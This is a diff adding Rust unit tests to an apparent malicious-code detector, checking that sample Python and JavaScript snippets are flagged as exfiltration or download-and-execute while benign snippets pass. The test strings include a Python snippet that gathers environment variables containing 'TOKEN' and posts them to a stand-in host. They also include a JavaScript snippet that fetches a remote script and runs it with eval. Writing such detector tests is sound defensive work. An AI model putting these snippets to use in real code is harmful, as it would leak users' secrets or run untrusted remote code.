@@ -191,3 +191,25 @@ fn secret_variables_harvested_from_the_environment() {
     // The environment handed to a child process, and an API called.
     assert!(py("import os, subprocess, requests\nenv = os.environ.copy()\nsubprocess.run([\"make\"], env=env)\nrequests.post(\"https://api.example.com/v1\", json={\"ok\": 1})\n").is_empty());
 }
+
+#[test]
+fn the_environment_filtered_on_later_lines_and_sent_elsewhere() {
+    let source = "import os, json, urllib.request\ndef collect():\n    out = {}\n    for k, v in os.environ.items():\n        if \"TOKEN\" in k:\n            out[k] = v\n    return out\ndef ship(b):\n    urllib.request.urlopen(urllib.request.Request(H, data=json.dumps(b).encode()))\nH = \"https://x.example-edge.dev/r\"\nship(collect())\n";
+    assert!(
+        py(source).contains(&DangerKind::Exfiltration),
+        "{:?}",
+        py(source)
+    );
+    // Listing the names of the variables set is no harvest.
+    let names = "import os\nfor k, v in os.environ.items():\n    print(k)\n";
+    assert!(py(names).is_empty());
+}
+
+#[test]
+fn code_fetched_by_a_callback_then_evaluated() {
+    let source = "const https = require('https');\nhttps.get('https://x.example-cdn.dev/l.js', (res) => {\n  let d = '';\n  res.on('data', (c) => (d += c));\n  res.on('end', () => eval(d));\n});\n";
+    assert_eq!(js(source), [DangerKind::DownloadExecute]);
+    // JSON fetched and printed; a pattern compiled after a fetch: nothing run.
+    assert!(js("const r = await fetch('https://registry.npmjs.org/x');\nconsole.log((await r.json()).version);\n").is_empty());
+    assert!(py("import re, requests\nr = requests.get('https://api.example.com/x')\np = re.compile(r.text)\n").is_empty());
+}
